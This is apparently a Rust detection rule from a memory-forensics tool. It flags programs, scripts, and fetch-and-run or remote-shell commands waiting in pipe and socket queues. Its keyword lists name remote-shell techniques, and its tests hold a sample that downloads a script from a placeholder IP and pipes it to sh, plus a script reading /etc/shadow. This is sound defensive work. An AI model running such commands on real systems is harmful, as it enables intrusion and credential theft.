//! MEM-023: a program or a script waits in a queue.

use bstr::{BStr, BString, ByteSlice as _};

use super::super::card::rule;
use super::super::words::shown;
use super::super::{Confidence, Evidence, Facts, Finding, Next, Report, Severity, Subject};
use crate::elf::Image;
use crate::model::ids::Pid;
use crate::tables::Holding;

rule! {
    /// Bytes that wait in a pipe, a TCP connection or a unix socket are a program (ELF), a script (`#!`), commands that
    /// fetch and run something, or one of these in base64. Nobody has read them yet.
    "MEM-023", suspended_payload_in_queue, version 1, Memory, Incubating, Medium,
    title: "A program or a script waits in a queue",
    why: "The dump caught a payload on its way. It is whole, and tells what was to happen next.",
    benign: ["A package or a build that is being transferred, or a server that delivers programs."],
    attack: ["T1105"],
    cost: Files,
    check: check,
}

/// A queue with bytes.
struct Queue<'q> {
    table: &'static str,
    key: (&'static str, u64),
    what: &'static str,
    text: &'q BString,
    holder: Option<Pid>,
    socket: Option<u64>,
    sha256: Option<String>,
}

fn check(facts: &Facts<'_>, report: &mut Report<'_>) {
    let rows = facts.checkpoint().rows();
    let first = |holding: &Holding| holding.iter().next().map(|holder| holder.pid);
    for pipe in rows.pipes() {
        if let Some(text) = pipe.text.as_ref().filter(|text| !text.is_empty()) {
            let key = ("inode", u64::from(pipe.inode));
            let holder = first(&pipe.readers).or_else(|| first(&pipe.writers));
            let queue =
                Queue { table: "pipes", key, what: "a pipe", text, holder, socket: None, sha256: pipe.sha256.clone() };
            if !look(facts, report, &queue) {
                return;
            }
        }
    }
    for packet in rows.unix_queues() {
        if let Some(text) = packet.text.as_ref().filter(|text| !text.is_empty()) {
            let key = ("socket", packet.socket.unwrap_or(0));
            let (holder, socket) = (first(&packet.holders), packet.socket);
            let queue = Queue {
                table: "unix_queues",
                key,
                what: "a unix socket",
                text,
                holder,
                socket,
                sha256: packet.sha256.clone(),
            };
            if !look(facts, report, &queue) {
                return;
            }
        }
    }
    for tcp in rows.tcp_queues() {
        if let Some(text) = tcp.text.as_ref().filter(|text| !text.is_empty()) {
            let key = ("socket", tcp.socket);
            let (holder, socket) = (first(&tcp.holders), Some(tcp.socket));
            let queue = Queue {
                table: "tcp_queues",
                key,
                what: "a TCP connection",
                text,
                holder,
                socket,
                sha256: tcp.sha256.clone(),
            };
            if !look(facts, report, &queue) {
                return;
            }
        }
    }
}

fn look(facts: &Facts<'_>, report: &mut Report<'_>, queue: &Queue<'_>) -> bool {
    if !report.look() {
        return false;
    }
    let Some((payload, severity)) = payload(queue.text.as_bstr()) else { return true };
    let who = queue.holder.and_then(|pid| facts.process(pid));
    let by =
        who.map_or_else(|| "the container".to_owned(), |process| super::thread_outside_code::lower(&process.title()));
    let subject = queue.holder.map_or_else(|| Subject::Socket(queue.what.to_owned()), Subject::Process);
    let head = queue.text.get(..120.min(queue.text.len())).unwrap_or_default();
    let mut finding = Finding::new(&RULE, subject)
        .severity(severity)
        .confidence(Confidence::High)
        .identity([
            who.and_then(|process| process.program.path.clone()).unwrap_or_default(),
            payload.into(),
            BString::from(queue.sha256.clone().unwrap_or_default()),
        ])
        .sentence(format!("{} waits in {} of {by}: {}.", capital(payload), queue.what, shown(head)))
        .next(Next::rows_where(queue.table, queue.key.0, queue.key.1.to_string()))
        .evidence(
            Evidence::row(queue.table, [(queue.key.0, queue.key.1.into())])
                .with_text(BString::from(head))
                .with_sha256(queue.sha256.clone()),
        );
    if let Some(socket) = queue.socket {
        finding = finding.link(super::super::Link::Socket(socket));
    }
    report.add(finding);
    true
}

fn capital(text: &str) -> String {
    let mut letters = text.chars();
    letters.next().map_or_else(String::new, |first| first.to_uppercase().chain(letters).collect())
}

/// What some waiting bytes are, if they are a payload.
fn payload(bytes: &BStr) -> Option<(&'static str, Severity)> {
    if let Some(what) = plain(bytes) {
        return Some(what);
    }
    // One of these in base64.
    let is_text = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'\n' | b'\r');
    let len = bytes.iter().take_while(|byte| is_text(byte)).count();
    let encoded: Vec<u8> =
        bytes.iter().take(len).copied().filter(|byte| !matches!(byte, b'\n' | b'\r' | b'=')).collect();
    let whole =
        encoded.get(..encoded.len().saturating_sub(encoded.len().checked_rem(4).unwrap_or(0))).unwrap_or_default();
    if whole.len() < 16 || len < bytes.len().saturating_sub(2) {
        return None;
    }
    let decoded = data_encoding::BASE64_NOPAD.decode(whole).ok()?;
    plain(decoded.as_bstr()).map(|(_, severity)| ("a payload in base64", severity))
}

/// A longer text is a script or a page that has such a line, and not a command.
const LONGEST: usize = 1024;

fn plain(bytes: &BStr) -> Option<(&'static str, Severity)> {
    if bytes.starts_with(b"\x7fELF") && (Image::read(bytes).is_some() || bytes.len() < 4096) {
        return Some(("a program", Severity::Medium));
    }
    if bytes.starts_with(b"#!/") {
        return Some(("a script", Severity::Medium));
    }
    let fetches = ["curl ", "wget "].iter().any(|word| bytes.contains_str(word));
    let runs = ["| sh", "|sh", "| bash", "|bash", "chmod +x", "chmod 755", "chmod 777"]
        .iter()
        .any(|word| bytes.contains_str(word));
    if fetches && runs && bytes.len() <= LONGEST {
        return Some(("a command that fetches and runs something", Severity::High));
    }
    let shells = ["/dev/tcp/", "nc -e ", "bash -i >&", "pty.spawn(", "base64 -d|", "base64 -d |"];
    shells.iter().any(|word| bytes.contains_str(word)).then_some(("a command for a remote shell", Severity::High))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_are_known_plain_and_in_base64() {
        let what = |bytes: &[u8]| payload(bytes.as_bstr()).map(|(what, _)| what);
        assert_eq!(what(b"#!/bin/sh\nid"), Some("a script"));
        assert_eq!(
            what(b"sleep 3; curl -s http://198.51.100.1/u.sh | sh\n"),
            Some("a command that fetches and runs something")
        );
        let encoded = data_encoding::BASE64.encode(b"#!/bin/sh\ncat /etc/shadow\n");
        assert_eq!(what(encoded.as_bytes()), Some("a payload in base64"));
        assert_eq!(what(b"GET / HTTP/1.1\r\nUser-Agent: curl/8\r\n\r\n"), None);
        assert_eq!(what(b"TWFuIGlzIGRpc3Rpbmd1aXNoZWQ="), None);
        assert_eq!(what(b""), None);
    }
}
